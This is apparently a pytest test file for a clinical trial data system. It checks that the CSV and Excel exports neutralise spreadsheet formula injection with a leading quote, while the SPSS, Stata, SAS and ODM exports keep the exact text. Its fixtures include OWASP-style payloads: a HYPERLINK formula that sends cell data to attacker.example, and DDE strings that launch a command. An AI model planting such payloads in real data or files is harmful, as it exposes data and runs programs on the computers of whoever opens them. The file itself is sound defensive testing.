"""Free text that a spreadsheet would run as a formula (CSV or formula injection, CWE-1236) is
neutralised in the CSV and Excel exports, as OWASP's "CSV Injection" page says: a cell beginning
with = + - @ tab or carriage return gets a leading single quote (in Excel: a text cell with
Excel's own quote prefix). The files read back with the csv module and openpyxl show text, never a
formula. ODM, SAS transport, SPSS and Stata files keep the exact value, and the data dictionary
says so. The payloads are the issue's and OWASP's / CWE-1236's examples."""

from __future__ import annotations

import csv
import io
import tempfile
import zipfile
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

import pyreadstat
import pytest
from openpyxl import load_workbook

from edc.audit import system_user
from tests.exports.conftest import adverse_event, job_bytes, randomized, user, zip_members
from trials.exports.models import ExportState
from trials.monitoring.queries.services import query_raise
from trials.safety.models import AdverseEvent
from trials.visits.models import CrfEntry
from trials.visits.services import crf_entry_save_answers

pytestmark = pytest.mark.django_db

# (AE verbatim term, expected in CSV). The spreadsheet rule is OWASP's: a leading ' before = + - @ tab CR.
PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://attacker.example/?d="&A1,"Headache")',
    "+1+2",
    "-2+3",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]
FREE_TEXT = "Rash with =1+2, @ and - inside: harmless"  # only the first character matters
NEGATIVE = "-2"  # a plain negative number: a spreadsheet reads the number -2, it runs nothing
COMPLICATIONS = '=HYPERLINK("http://attacker.example/","Bruising")'  # a CRF's own free-text item (wide table)
ULCER_ELSEWHERE = "-1+cmd|' /C calc'!A0"  # an item of a repeating group


@pytest.fixture
def payloads(du):  # noqa: ANN001, ANN201
    """AEs with the payloads as verbatim terms, a query with one as its text, and a FATGRAFT entry
    and an ulcer row with one in their free-text items."""
    participant = du["participants"][0]
    for term in PAYLOADS:
        adverse_event(participant, term)
    adverse_event(participant, FREE_TEXT)
    adverse_event(participant, NEGATIVE)
    entry = CrfEntry.objects.get(participant=participant, crf_code="VITALS")
    query_raise(user=user("datamanager"), entry=entry, item="height_cm", text="=1+2")
    other = randomized("GRE", consent=30)
    lipo = other.visits.get(definition__code="LIPO")
    crf_entry_save_answers(
        user=system_user(), visit=lipo, crf_code="FATGRAFT", complete=True, reason="Test data",
        answers={"procedure_date": lipo.planned_date, "treated_areas": ["hands"], "technique": "adsvf", "treated_hand": "right", "anaesthesia_type": "local",
                 "harvest_method": "syringe", "processing": "enzymatic", "prp_used": False,
                 "harvest_site": "abdomen", "harvested_fat_ml": Decimal("40"),
                 "injections": [{"injection_site": "palm", "volume_ml": Decimal("1")}],
                 "procedure_complications": True, "complications_description": COMPLICATIONS},
    )
    du_entry = CrfEntry.objects.get(participant=participant, crf_code="DU_ASSESS")
    ulcers = [{**row, "location": "other", "location_other": ULCER_ELSEWHERE} for row in du_entry.answers["ulcers"]]
    crf_entry_save_answers(
        user=system_user(), visit=du_entry.visit, crf_code="DU_ASSESS", complete=True, reason="Test data",
        answers={**du_entry.answers, "assessment_date": du_entry.answers["assessment_date"], "ulcers": ulcers},
    )
    # What the services stored (they may trim): the exports must give these, guarded or exact.
    return {
        "terms": list(AdverseEvent.objects.filter(participant=participant).order_by("number").values_list("verbatim_term", flat=True)),
    }


def owasp(value: str) -> str:
    """OWASP's rule, written out here from its text, not taken from the code under test."""
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") and value != NEGATIVE else value


def read_csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_csv_export_neutralises_formulas_and_keeps_numbers(payloads, export) -> None:  # noqa: ANN001
    job = export("datamanager", "ASC-DU")
    assert job.state == ExportState.DONE, job.error
    files = zip_members(job_bytes(job))
    terms = [r["verbatim_term"] for r in read_csv(files["adverse_events.csv"])]
    stored = payloads["terms"]
    assert terms == [owasp(t) for t in stored]
    assert {t for t in stored if t.lstrip("\t\r")[:1] == "="} <= {t.removeprefix("'") for t in terms}
    assert NEGATIVE in terms and FREE_TEXT in terms
    assert "'=1+2" in [r["text"] for r in read_csv(files["queries.csv"])]
    fatgraft = read_csv(files["FATGRAFT.csv"])
    assert [r["complications_description"] for r in fatgraft] == ["'" + COMPLICATIONS]
    ulcers = read_csv(files["DU_ASSESS_ulcers.csv"])
    assert {r["location_other"] for r in ulcers if r["location_other"]} == {"'" + ULCER_ELSEWHERE}
    vitals = read_csv(files["VITALS.csv"])
    assert all(not r["weight_kg"].startswith("'") for r in vitals)  # numbers are numbers
    dictionary = read_csv(files["data_dictionary.csv"])
    note = next(r for r in dictionary if (r["table"], r["variable"]) == ("adverse_events", "verbatim_term"))["note"]
    assert "'" in note and "ODM" in note
    assert next(r for r in dictionary if (r["table"], r["variable"]) == ("VITALS", "weight_kg"))["note"] == ""


def test_xlsx_export_writes_text_cells_never_formulas(payloads, export) -> None:  # noqa: ANN001
    job = export("datamanager", "ASC-DU", format="xlsx")
    assert job.state == ExportState.DONE, job.error
    book = load_workbook(io.BytesIO(job_bytes(job)))
    formulas = [(sheet.title, c.coordinate, c.value) for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    sheet = book["adverse_events"]
    header = [c.value for c in sheet[1]]
    column = header.index("verbatim_term")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    stored = payloads["terms"]
    assert [c.value for c in cells] == stored  # exact text …
    assert [c.quotePrefix for c in cells] == [owasp(t) != t for t in stored]  # … marked "text" where it matters
    fatgraft = book["FATGRAFT"]
    column = [c.value for c in fatgraft[1]].index("complications_description")
    cell = fatgraft.cell(row=2, column=column + 1)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (COMPLICATIONS, "s", True)


def _zip_files(content: bytes, extension: str, reader) -> dict:  # noqa: ANN001
    found = {}
    with zipfile.ZipFile(io.BytesIO(content)) as archive, tempfile.TemporaryDirectory() as scratch:
        for name in archive.namelist():
            if name.endswith(f".{extension}"):
                path = Path(scratch) / name
                path.write_bytes(archive.read(name))
                found[name.removesuffix(f".{extension}")] = reader(str(path))[0]
    return found


@pytest.mark.parametrize(("export_format", "reader"), [("sav", pyreadstat.read_sav), ("dta", pyreadstat.read_dta)])
def test_spss_and_stata_keep_the_exact_text(payloads, export, export_format, reader) -> None:  # noqa: ANN001
    job = export("datamanager", "ASC-DU", format=export_format)
    assert job.state == ExportState.DONE, job.error
    frames = _zip_files(job_bytes(job), export_format, reader)
    assert list(frames["adverse_events"]["verbatim_term"]) == payloads["terms"]
    assert list(frames["FATGRAFT"]["complications_description"]) == [COMPLICATIONS]


def test_sas_transport_keeps_the_exact_text(payloads, export) -> None:  # noqa: ANN001
    job = export("datamanager", "ASC-DU", format="xpt")
    assert job.state == ExportState.DONE, job.error
    ae = _zip_files(job_bytes(job), "xpt", pyreadstat.read_xport)
    ae = next(frame for name, frame in ae.items() if name.lower() == "ae")
    # Transport files are ASCII and fold control characters (tab, CR) to spaces (sdtm.ascii_text).
    assert {t for t in payloads["terms"] if t.isprintable()} <= set(ae["AETERM"])


def test_odm_keeps_the_exact_text(payloads, export) -> None:  # noqa: ANN001
    job = export("datamanager", "ASC-DU", format="odm")
    assert job.state == ExportState.DONE, job.error
    values = {e.get("Value") for e in ElementTree.fromstring(job_bytes(job)).iter() if e.tag.endswith("ItemData")}
    assert set(payloads["terms"]) <= values
    assert COMPLICATIONS in values and ULCER_ELSEWHERE in values
